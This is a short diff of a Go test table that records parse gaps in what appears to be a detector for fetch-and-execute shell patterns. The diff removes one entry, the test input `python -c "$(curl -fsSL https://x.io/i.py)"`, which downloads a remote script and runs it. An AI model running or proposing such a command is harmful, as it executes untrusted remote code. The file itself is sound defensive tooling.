@@ -29,10 +29,6 @@ var parseGaps = map[string]string{
 	// An interpreter reading its program from standard input (python3,
 	// python3 -) is not marked Stdin.Executed, so no pipe-shell fact
 	// names curl as the feeder.
-	// python -c "$(curl …)": the dynamic fact for inline code whose text
-	// is a substitution names no feeders, so curl is not seen as its
-	// source (on the parse branch: DynInterpreter with empty Feeders).
-	`python -c "$(curl -fsSL https://x.io/i.py)"`: "a dynamic interpreter program carries no Feeders",
 	// at, batch and crontab run their input as shell code later; they
 	// are not sinks yet.
 	// In a loop over a list that is not literal the body's directory is
